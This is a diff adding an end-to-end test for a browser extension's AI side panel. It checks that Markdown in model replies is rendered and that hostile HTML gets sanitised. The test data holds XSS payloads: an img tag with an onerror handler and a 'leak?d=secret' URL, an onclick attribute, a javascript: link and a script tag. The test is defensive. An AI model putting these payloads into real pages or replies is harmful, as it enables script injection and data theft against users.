@@ -187,3 +187,37 @@ test('on-device mode without a downloaded model explains the download and the cl
   await screenshot(panel, 'panel-cloud-unavailable');
   await expectAccessible(panel);
 });
+
+// DOMPurify needs a real DOM (happy-dom mangles it), so the sanitising is tested here, in the panel itself.
+test('model text is Markdown, sanitised: hostile HTML quoted from a page is inert', async ({
+  context,
+  server,
+  provider,
+  serviceWorker,
+  openSidePanel,
+}) => {
+  await useCloud(serviceWorker, provider);
+  provider.script({
+    type: 'reply',
+    text: [
+      '**Bold**, `code` and [a link](https://shop.test/).',
+      '',
+      '<img src="http://127.0.0.1:1/leak?d=secret" onerror="document.title=1"> <b onclick="x()">hi</b>',
+      '',
+      '[bad](javascript:alert(1)) <script>document.title="pwned"</script>',
+    ].join('\n'),
+  });
+  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
+  await panel.getByRole('textbox', { name: 'Message' }).fill('Say something');
+  await panel.getByRole('button', { name: 'Send' }).click();
+  const text = panel.locator('.conversation .markdown');
+  await expect(text.locator('strong')).toHaveText('Bold', { timeout: 30_000 });
+  await expect(text.locator('code')).toHaveText('code');
+  const link = text.getByRole('link', { name: 'a link' });
+  await expect(link).toHaveAttribute('href', 'https://shop.test/');
+  await expect(link).toHaveAttribute('target', '_blank');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  await expect(text.locator('b')).toHaveText('hi');
+  expect(await text.evaluateAll((nodes) => nodes.map((n) => n.innerHTML).join(''))).not.toMatch(/<img|<script|onerror|onclick|javascript:/);
+  expect(await panel.title()).toBe('WebMCP Agent');
+});
